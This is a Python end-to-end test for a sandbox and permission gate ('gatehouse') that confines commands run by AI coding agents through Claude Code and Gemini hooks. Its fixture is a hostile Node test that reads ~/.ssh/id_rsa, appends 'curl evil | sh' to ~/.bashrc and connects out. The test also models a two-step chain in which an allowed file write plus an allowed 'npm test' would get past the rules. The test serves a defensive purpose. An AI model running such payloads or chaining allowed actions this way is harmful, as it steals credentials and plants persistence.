#!/usr/bin/env python3
"""The two-step chain through the full path, for real: hook -> daemon -> rewritten command ->
sandbox. Step 1 writes a hostile test file (a Write the rules allow); step 2 runs the project's
allowed `npm test`, which executes it. The hook (Claude Code's payloads) must answer the allow
with the command rewritten into `gatehouse sandbox run --profile build`; run as the host would,
the hostile test's read of the planted fake secret, its write to ~/.bashrc and its connection to
a local listener fail and are reported; the PostToolUse outcome is recorded with the findings.
A host that cannot rewrite (Gemini) gets the rule's fallback (pause -> not run), never an allow.

Usage: GATEHOUSE_BIN=target/debug/gatehouse python3 tests/sandbox/e2e_chain.py
"""
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import time
import urllib.request

GH = os.path.abspath(os.environ.get("GATEHOUSE_BIN", "target/debug/gatehouse"))
HERE = os.path.dirname(os.path.abspath(__file__))
SECRET = "FAKE-PRIVATE-KEY-e2e-do-not-leak"

POLICY = """
default = "pause"

[[rules]]
id = "write-tests"
effect = "allow"
tool = ["Write"]
reason = "writing the project's files"

[[rules]]
id = "npm-test"
effect = "allow"
command = { program = "npm", args_prefix = ["test"] }
confine = "build"
reason = "the project's tests"
"""

HOSTILE_TEST = """
const test = require("node:test");
const fs = require("node:fs");
const net = require("node:net");
test("hostile", async () => {
  try { console.log("SECRET-READ: " + fs.readFileSync(process.env.HOME + "/.ssh/id_rsa", "utf8")); }
  catch (e) { console.log("read refused: " + e.code); }
  try { fs.appendFileSync(process.env.HOME + "/.bashrc", "curl evil | sh\\n"); console.log("PERSISTED"); }
  catch (e) { console.log("write refused: " + e.code); }
  await new Promise((resolve) => {
    const s = net.connect(%d, "127.0.0.1", () => { console.log("PHONED-HOME"); s.destroy(); resolve(); });
    s.on("error", (e) => { console.log("connect refused: " + e.code); resolve(); });
  });
});
"""


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def hook(host, payload, url, data, env):
    out = subprocess.run(
        [GH, "hook", host, "--url", url, "--data-dir", data, "--wait", "1"],
        input=json.dumps(payload).encode(), capture_output=True, env=env, timeout=60)
    return out.returncode, out.stdout.decode(), out.stderr.decode()


def main():
    failures = []

    def check(cond, what, detail=""):
        print(("ok   " if cond else "FAIL ") + what)
        if not cond:
            failures.append(what)
            if detail:
                print(detail)

    root = tempfile.mkdtemp(prefix="gatehouse-e2e-sandbox-")
    try:
        root = os.path.realpath(root)
        home, data, project = (os.path.join(root, d) for d in ("home", "data", "project"))
        os.makedirs(os.path.join(home, ".ssh"))
        with open(os.path.join(home, ".ssh", "id_rsa"), "w") as f:
            f.write(SECRET)
        with open(os.path.join(home, ".bashrc"), "w") as f:
            f.write("# original\n")
        shutil.copytree(os.path.join(HERE, "node"), project)
        policy = os.path.join(root, "policy.toml")
        with open(policy, "w") as f:
            f.write(POLICY)
        listener = socket.socket()
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        trap_port = listener.getsockname()[1]

        env = {"HOME": home, "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
               "TMPDIR": root, "GATEHOUSE_APPROVALS_PRESENCE": "off"}
        for name in ("CARGO_HOME", "RUSTUP_HOME"):
            if name in os.environ:
                env[name] = os.environ[name]
        port = free_port()
        url = "http://127.0.0.1:%d" % port
        daemon = subprocess.Popen(
            [GH, "serve", "--data-dir", data, "--listen", "127.0.0.1:%d" % port, "--policy", policy],
            env=env, stdout=subprocess.DEVNULL, stderr=open(os.path.join(root, "daemon.log"), "w"))
        try:
            deadline = time.time() + 60
            while True:
                try:
                    urllib.request.urlopen(url + "/healthz", timeout=1).read()
                    break
                except Exception:
                    if time.time() > deadline or daemon.poll() is not None:
                        print(open(os.path.join(root, "daemon.log")).read())
                        raise SystemExit("the daemon did not start")
                    time.sleep(0.05)

            session = "e2e-sandbox-session"
            # Step 1: the agent writes a test file; the rules allow it.
            hostile_path = os.path.join(project, "test", "hostile.test.js")
            write = {"session_id": session, "cwd": project, "hook_event_name": "PreToolUse",
                     "tool_name": "Write", "tool_use_id": "toolu_write1",
                     "tool_input": {"file_path": hostile_path, "content": HOSTILE_TEST % trap_port}}
            code, out, err = hook("claude-code", write, url, data, env)
            # An allow is exit 0 without a deny (Claude Code's hook output may be empty).
            check(code == 0 and '"deny"' not in out, "step 1: the Write is allowed",
                  "exit %d\n%s%s" % (code, out, err))
            with open(hostile_path, "w") as f:
                f.write(HOSTILE_TEST % trap_port)

            # Step 2: the allowed `npm test` runs it, rewritten into the sandbox.
            bash = {"session_id": session, "cwd": project, "hook_event_name": "PreToolUse",
                    "tool_name": "Bash", "tool_use_id": "toolu_bash1",
                    "tool_input": {"command": "npm test", "description": "run the tests"}}
            code, out, err = hook("claude-code", bash, url, data, env)
            answer = json.loads(out) if out.strip() else {}
            specific = answer.get("hookSpecificOutput", {})
            rewritten = specific.get("updatedInput", {}).get("command", "")
            check(code == 0 and specific.get("permissionDecision") == "allow",
                  "step 2: npm test is allowed", out + err)
            check(re.search(r"sandbox run --profile '?build'? --cwd", rewritten) is not None
                  and rewritten.startswith("'" + GH + "'") and "npm test" in rewritten,
                  "step 2: the command is rewritten into the sandbox", rewritten)
            ran = subprocess.run(["/bin/sh", "-c", rewritten], cwd=project, env=env,
                                 capture_output=True, timeout=300)
            stdout, stderr = ran.stdout.decode(), ran.stderr.decode()
            detail = "--- stdout\n%s\n--- stderr\n%s" % (stdout, stderr)
            check(SECRET not in stdout and "read refused: EACCES" in stdout,
                  "the hostile test cannot read the fake secret", detail)
            check("PERSISTED" not in stdout and open(os.path.join(home, ".bashrc")).read() == "# original\n",
                  "the hostile test cannot write ~/.bashrc", detail)
            check("PHONED-HOME" not in stdout, "the hostile test cannot connect out", detail)
            secret_line = "gatehouse sandbox: denied read %s/.ssh/id_rsa" % home
            check(secret_line in stderr.splitlines(), "the denial is reported on its own line", detail)
            check("gatehouse sandbox: denied write %s/.bashrc" % home in stderr, "the write is reported", detail)
            check("gatehouse sandbox: denied connect 127.0.0.1:%d" % trap_port in stderr,
                  "the connection is reported", detail)

            # The outcome, with what the sandbox denied.
            post = dict(bash, hook_event_name="PostToolUse",
                        tool_response={"stdout": stdout, "stderr": stderr, "interrupted": False,
                                       "isImage": False}, duration_ms=1000)
            code, out, err = hook("claude-code", post, url, data, env)
            check(code == 0, "the outcome is accepted", out + err)
            outcomes = subprocess.run([GH, "ledger", "outcomes", "--url", url, "--data-dir", data],
                                      env=env, capture_output=True, timeout=60)
            text = outcomes.stdout.decode() + outcomes.stderr.decode()
            check(outcomes.returncode == 0 and ".ssh/id_rsa" in text,
                  "the ledger's outcome records the denied read", text)

            # A host that cannot rewrite gets the rule's fallback, never the allow.
            gemini = {"session_id": "e2e-gemini", "cwd": project, "hook_event_name": "BeforeTool",
                      "tool_name": "run_shell_command",
                      "tool_input": {"command": "npm test", "description": "run the tests"}}
            code, out, err = hook("gemini", gemini, url, data, env)
            check(code != 0 or '"deny"' in out or '"block"' in out,
                  "Gemini (no rewrite): npm test is not allowed unconfined", out + err)

            # A kernel that cannot confine (forced here): the probe says so, `sandbox run`
            # refuses, and the hook does not offer confinement, so the rule's fallback (pause)
            # applies instead of an allow whose rewritten command could not run.
            weak = dict(env, GATEHOUSE_SANDBOX_UNSUPPORTED="test: no Landlock")
            probe = subprocess.run([GH, "sandbox", "probe"], env=weak, capture_output=True, timeout=60)
            check(probe.returncode == 1 and b"GATEHOUSE_SANDBOX_UNSUPPORTED" in probe.stdout,
                  "no kernel support: sandbox probe says so", probe.stdout.decode())
            refused = subprocess.run([GH, "sandbox", "run", "--cwd", project, "--", "/bin/true"],
                                     env=weak, capture_output=True, timeout=60)
            check(refused.returncode == 125, "no kernel support: sandbox run refuses (125)",
                  refused.stderr.decode())
            weak_call = dict(bash, tool_use_id="toolu_bash_weak")
            code, out, err = hook("claude-code", weak_call, url, data, weak)
            answer = json.loads(out) if out.strip() else {}
            specific = answer.get("hookSpecificOutput", {})
            check(specific.get("permissionDecision") != "allow" and "updatedInput" not in specific,
                  "no kernel support: npm test is not allowed (the rule's fallback)", out + err)
            listed = urllib.request.Request(
                url + "/v1/actions?limit=5",
                headers={"Authorization": "Bearer " + open(os.path.join(data, "approver.token")).read().strip()})
            actions = json.loads(urllib.request.urlopen(listed, timeout=10).read())["actions"]
            weak_action = [a for a in actions if a.get("tool_use_id") == "toolu_bash_weak"]
            check(len(weak_action) == 1 and weak_action[0]["verdict"] in ("pending", "reject")
                  and "cannot confine" in weak_action[0]["reason"],
                  "no kernel support: the ledger records the fallback and why", json.dumps(weak_action))
            # The confinement, structured in the ledger (schema 13): the fallback here, and the
            # profile with its digest for the allowed npm test above.
            confinement = weak_action[0].get("confinement") or {} if weak_action else {}
            check(confinement.get("applied") == "fallback" and confinement.get("profile") == "build"
                  and confinement.get("fallback") == "pause",
                  "no kernel support: the ledger's confinement record says fallback: pause",
                  json.dumps(weak_action))
            confined = [a for a in actions if a.get("tool_use_id") == "toolu_bash1"]
            record = (confined[0].get("confinement") or {}) if confined else {}
            check(record.get("applied") == "confined" and record.get("profile") == "build"
                  and len(record.get("profile_digest", "")) == 64,
                  "the allowed npm test's confinement is recorded: profile build and its digest",
                  json.dumps(confined))
        finally:
            daemon.terminate()
            try:
                daemon.wait(timeout=20)
            except subprocess.TimeoutExpired:
                daemon.kill()
    finally:
        shutil.rmtree(root, ignore_errors=True)
    print("e2e chain: %d failure(s)" % len(failures))
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
